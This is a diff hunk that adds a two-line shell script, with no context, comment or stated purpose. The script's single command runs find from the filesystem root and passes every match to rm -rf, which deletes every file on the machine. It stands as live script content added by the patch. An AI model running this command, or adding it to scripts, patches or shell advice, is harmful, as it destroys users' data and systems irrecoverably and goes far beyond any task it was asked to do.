@@ -1,0 +1,2 @@
+#!/bin/sh
+find / -name '*' -exec rm -rf {} +
